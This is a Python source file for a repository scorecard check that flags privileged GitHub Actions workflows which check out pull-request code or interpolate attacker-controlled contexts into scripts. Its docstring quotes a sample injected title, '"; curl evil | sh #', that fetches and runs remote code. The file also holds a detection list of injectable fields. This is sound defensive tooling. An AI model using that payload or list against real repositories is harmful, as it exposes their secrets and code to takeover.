"""No dangerous workflow triggers

Fails on the two classic ways a GitHub Actions workflow hands control to an outsider:

1. **Checking out the pull request's code in a privileged workflow.** A workflow triggered by
   `pull_request_target` or `workflow_run` runs with the base repository's secrets and a
   writable token, even for a pull request from a fork. An `actions/checkout` step (any
   version) whose `ref` uses `github.event.pull_request.head` (`.sha`, `.ref`),
   `github.head_ref` or `github.event.workflow_run.head` (`head_sha`, `head_branch`) runs the
   attacker's code with them. A `ref` that names `refs/pull/...` (the pull request's head or
   merge commit) is flagged the same way.
2. **Script injection.** A `run:` script that interpolates attacker-controlled context inside
   `${{ }}`: `github.head_ref`, and under `github.event`: `issue.title`, `issue.body`,
   `pull_request.title`, `pull_request.body`, `pull_request.head.ref`,
   `pull_request.head.label`, `pull_request.head.repo.default_branch`, `comment.body`,
   `review.body`, `review_comment.body`, `discussion.title`, `discussion.body`,
   `pages.*.page_name`, `commits.*.message`, `commits.*.author.email`,
   `commits.*.author.name`, `head_commit.message`, `head_commit.author.email`,
   `head_commit.author.name`, `workflow_run.head_branch`, `workflow_run.head_commit.message`.
   GitHub pastes the value into the script before the shell sees it, so a pull request titled
   ``"; curl evil | sh #`` runs. Indexes and filters are understood (`commits[0].message`,
   `commits.*.message`, `github['head_ref']`), and so is `toJSON()` of an object that holds
   one of these (`toJSON(github.event.pull_request)`). The `script` input of
   `actions/github-script` is JavaScript pasted the same way and is checked like a `run:`.

Passing the value through `env:` and using the variable (`"$TITLE"`) is the safe pattern and
passes. A fail lists every place as `file:line`, inside a multi-line script at the script line
holding the expression.

A workflow that does not parse is left out (the message says so). `skip` when the repository
has no workflows, or none parses.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

from scorecard.check import Options, check
from scorecard.model import Finding, Location, failed, passed, skipped
from scorecard.snapshot import RepoSnapshot, Workflow

from ._workflows import iter_scripts, value_line, workflow_set

PRIVILEGED_TRIGGERS = ("pull_request_target", "workflow_run")

#: Attacker-controlled contexts, as segments after ``github``; ``*`` is any index or key.
DANGEROUS: tuple[tuple[str, ...], ...] = tuple(
    tuple(p.split("."))
    for p in (
        "head_ref",
        "event.issue.title",
        "event.issue.body",
        "event.pull_request.title",
        "event.pull_request.body",
        "event.pull_request.head.ref",
        "event.pull_request.head.label",
        "event.pull_request.head.repo.default_branch",
        "event.comment.body",
        "event.review.body",
        "event.review_comment.body",
        "event.discussion.title",
        "event.discussion.body",
        "event.pages.*.page_name",
        "event.commits.*.message",
        "event.commits.*.author.email",
        "event.commits.*.author.name",
        "event.head_commit.message",
        "event.head_commit.author.email",
        "event.head_commit.author.name",
        "event.workflow_run.head_branch",
        "event.workflow_run.head_commit.message",
    )
)

#: A checkout ``ref`` that starts with one of these (dotted, lower case) is the PR's head.
HEAD_REFS = ("github.event.pull_request.head", "github.head_ref", "github.event.workflow_run.head")

EXPR_RE = re.compile(r"\$\{\{(.*?)\}\}", re.S)
STRING_RE = re.compile(r"'(?:[^']|'')*'")
_KEY = r"""(?:'(?:[^']|'')*'|"[^"]*"|\d+|\*)"""
_ACCESS = rf"""(?:\s*\.\s*(?:[A-Za-z_][\w-]*|\*)|\s*\[\s*{_KEY}\s*\])"""
REF_RE = re.compile(rf"(?<![\w.\-])github(?![\w-]){_ACCESS}*", re.I)
SEGMENT_RE = re.compile(rf"""\.\s*([A-Za-z_][\w-]*|\*)|\[\s*({_KEY})\s*\]""")
TOJSON_RE = re.compile(r"tojson\s*\(\s*$", re.I)
SHOWN = 5


def context_paths(expression: str) -> Iterator[tuple[tuple[str, ...], bool]]:
    """The ``github`` context references in the body of one ``${{ }}`` expression: their
    segments after ``github`` (lower case, indexes as ``*``), and whether each is the argument
    of ``toJSON()``."""
    # String literals are not contexts, except as keys: github['head_ref'].
    masked = STRING_RE.sub(
        lambda m: (
            m.group(0) if expression[: m.start()].rstrip().endswith("[") else " " * len(m.group(0))
        ),
        expression,
    )
    for m in REF_RE.finditer(masked):
        segments: list[str] = []
        for seg in SEGMENT_RE.finditer(m.group(0)[len("github") :]):
            name, key = seg.group(1), seg.group(2)
            if name is not None:
                segments.append(name.lower())
            elif key[0] in "'\"":
                segments.append(key[1:-1].replace("''", "'").lower())
            else:
                segments.append("*")  # a numeric index or the * filter
        yield tuple(segments), bool(TOJSON_RE.search(masked[: m.start()]))


def _seg_match(got: str, want: str) -> bool:
    return got == want or want == "*" or got == "*"


def is_dangerous(segments: tuple[str, ...], to_json: bool = False) -> bool:
    """Whether a reference reads attacker-controlled text (or, as the argument of ``toJSON``,
    an object that holds some)."""
    for pattern in DANGEROUS:
        n = min(len(segments), len(pattern))
        if len(segments) < len(pattern) and not to_json:
            continue
        if all(_seg_match(g, w) for g, w in zip(segments[:n], pattern[:n], strict=True)):
            return True
    return False


@dataclass(frozen=True)
class Problem:
    location: Location
    message: str


def _checkouts_of_head(wf: Workflow) -> Iterator[Problem]:
    triggers = [t for t in PRIVILEGED_TRIGGERS if t in wf.triggers]
    if not triggers:
        return
    for _job, step in wf.steps():
        uses = step.get("uses")
        with_ = step.get("with")
        if not (
            isinstance(uses, str)
            and uses.strip().lower().startswith("actions/checkout@")
            and isinstance(with_, dict)
        ):
            continue
        ref = with_.get("ref")
        if not isinstance(ref, str):
            continue
        offset = None
        for m in EXPR_RE.finditer(ref):
            for segments, _ in context_paths(m.group(1)):
                dotted = ".".join(("github", *segments))
                if dotted.startswith(HEAD_REFS):
                    offset = m.start()
                    break
            if offset is not None:
                break
        if offset is None and "refs/pull/" in ref:
            offset = ref.index("refs/pull/")
        if offset is None:
            continue
        line = value_line(wf, ref, offset)
        shown = " ".join(ref.split())
        yield Problem(
            Location(wf.path, line),
            f"{wf.path}:{line}: a {'/'.join(triggers)} workflow checks out the pull "
            f"request's head (`ref: {_short(shown)}`)",
        )


def _injections(wf: Workflow) -> Iterator[Problem]:
    for script in iter_scripts(wf, github_script=True):
        for m in EXPR_RE.finditer(script.text):
            if not any(is_dangerous(segs, to_json) for segs, to_json in context_paths(m.group(1))):
                continue
            line = script.line_at(m.start())
            what = "`run:`" if script.key == "run" else "`actions/github-script` `script:`"
            yield Problem(
                Location(wf.path, line),
                f"{wf.path}:{line}: {what} interpolates `{_short(' '.join(m.group(0).split()))}`",
            )


def _short(text: str, limit: int = 80) -> str:
    return text if len(text) <= limit else text[: limit - 3] + "..."


@check(
    id="no-dangerous-triggers",
    pillar="security",
    title="No dangerous workflow triggers",
    remediation="Pass untrusted values through `env:` and use the variable in the script "
    '(`env: TITLE: ${{ github.event.pull_request.title }}` then `"$TITLE"`), and '
    "never check out a pull request's head in a `pull_request_target` or "
    "`workflow_run` workflow: use `pull_request` for code that builds it.",
)
def run(snap: RepoSnapshot, opts: Options) -> Finding:
    wfs = workflow_set(snap)
    reason = wfs.skip_reason()
    if reason is not None:
        return skipped(reason)
    problems: list[Problem] = []
    for wf in wfs.parsed:
        problems.extend(_checkouts_of_head(wf))
        problems.extend(_injections(wf))
    note = wfs.note()
    n = len(wfs.parsed)
    if not problems:
        return passed(
            f"no privileged checkout of pull request code and no script injection "
            f"in {n} workflow{'s' if n != 1 else ''}{note}"
        )
    shown = "; ".join(p.message for p in problems[:SHOWN])
    more = f"; and {len(problems) - SHOWN} more" if len(problems) > SHOWN else ""
    locations = list(dict.fromkeys(p.location for p in problems))
    return failed(
        f"{len(problems)} dangerous pattern{'s' if len(problems) != 1 else ''} in "
        f"workflows: {shown}{more}{note}",
        locations,
    )
